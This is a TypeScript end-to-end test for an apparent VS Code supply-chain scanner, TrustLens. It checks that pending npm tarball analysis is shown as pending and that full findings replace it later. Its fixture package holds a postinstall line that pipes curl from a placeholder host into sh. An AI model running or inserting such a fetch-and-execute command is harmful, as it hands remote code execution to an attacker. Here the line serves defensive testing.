/**
 * The early result in a real VS Code: while the tarballs are still being downloaded (held by the registry until the
 * test lets them go), what is known without them is on screen and what is still running says so — the status item
 * ("being analysed", spinning), the hover card ("Still being checked") — never a clean shield; once they go, the full
 * result replaces it (the finding only the tarball shows). Screenshots go to test-artifacts/e2e/<test>/.
 */
import { strict as assert } from 'node:assert';
import { type FixtureRegistry, startFixtureRegistry } from '../fixtures/registry/server';
import { type CodeServerSession, makeTempDir, requireE2e, startCodeServer } from '../support/e2e/harness';
import { hookyCorpus, writeNpmProject } from '../support/e2e/hooky-project';
import { statusUntil, statusView } from '../support/e2e/status-item';
import { withinHangGuard } from '../support/wait';

const NOW = '2024-06-01T00:00:00Z';
/** A hang guard, not a timing: each wait ends on a state of the screen; this only stops a run that never gets there. */
const HANG_GUARD_MS = 90_000;

describe('e2e: results before the tarballs are analysed, pending said so', function () {
  this.timeout(300_000);
  let registry: FixtureRegistry;
  let session: CodeServerSession | undefined;
  let release: () => void = () => undefined;

  before(async function () {
    requireE2e(this);
    // hooky's new postinstall runs a file that starts a process and reaches the network: only its tarball says so.
    const corpus = await hookyCorpus("require('child_process').exec('curl https://x.example/a | sh')\n");
    // Every tarball is held until the test lets them go: the scan's early result is a state, not a moment.
    const held = new Promise<void>((resolve) => (release = resolve));
    registry = await startFixtureRegistry(corpus, { faults: [{ match: /\.tgz$/, action: { until: held } }] });
    const workspace = makeTempDir('early-result');
    writeNpmProject(workspace, corpus, registry.url);
    session = await startCodeServer({
      workspace,
      test: 'early-result',
      settings: { 'trustlens.registry': registry.url, 'trustlens.advisories.sources': [], 'trustlens.evaluationTime': NOW },
    });
    await session.waitForExtension('trustlens.trustlens');
  });

  afterEach(async function () {
    if (this.currentTest?.state === 'failed' && session) await session.screenshot(`failed-${this.currentTest.title}`).catch(() => undefined);
  });

  after(async () => {
    release();
    await session?.close();
    await registry?.close();
  });

  it('tarballs held: the status item says how many are being analysed, the hover says "Still being checked"', async () => {
    const s = session!;
    await s.openFile('package.json');
    const view = await statusUntil(s, '"being analysed"', (v) => /\b2 being analysed\b/.test(v.text), HANG_GUARD_MS);
    await s.screenshot('status-being-analysed');
    assert.ok(view.icons.includes('sync'), `spinning: ${view.icons.join()}`);
    assert.ok(!view.icons.includes('shield'), 'never a clean shield while contents are unknown');
    assert.equal(view.kind, undefined, 'pending is not a warning: nothing failed');
    // The metadata is known already: hooky's new install script is on screen before its tarball arrived.
    const card = await s.hoverOn('"hooky"', { contains: /Still being checked/ });
    await s.screenshot('hover-still-being-checked');
    assert.match(card, /Still being checked: package contents — the findings below are partial/);
    assert.match(card, /Install scripts: postinstall/);
    const rows = await s.problems({ source: 'TrustLens', timeoutMs: HANG_GUARD_MS, until: (r) => r.some((x) => x.code === 'install-script-added') });
    const early = rows.find((r) => r.code === 'install-script-added')!;
    assert.doesNotMatch(early.text, /starts processes/, 'nothing from the tarball yet');
    assert.ok(
      registry.requests.some((r) => r.url.endsWith('.tgz')),
      'the tarballs were asked for and are held',
    );
  });

  it('tarballs released: the full result replaces the early one', async () => {
    const s = session!;
    release();
    await statusUntil(s, 'the full result', (v) => !/being analysed/.test(v.text) && !v.icons.includes('sync'), HANG_GUARD_MS);
    await s.screenshot('status-full-result');
    const card = await s.hoverOn('"hooky"', { contains: /Changed since 1\.0\.0/ });
    assert.doesNotMatch(card, /Still being checked/);
    const rows = await s.problems({ source: 'TrustLens', timeoutMs: HANG_GUARD_MS, until: (r) => r.some((x) => x.code === 'install-script-added') });
    const row = rows.find((r) => r.code === 'install-script-added')!;
    // What the tarball showed (a process started, a network address) joins the install script's finding.
    assert.match(row.text, /starts processes/, JSON.stringify(rows.map((r) => [r.code, r.text])));
    assert.match(row.text, /new network access/);
    assert.equal((await withinHangGuard('the status item', statusView(s))).kind, undefined);
  });
});
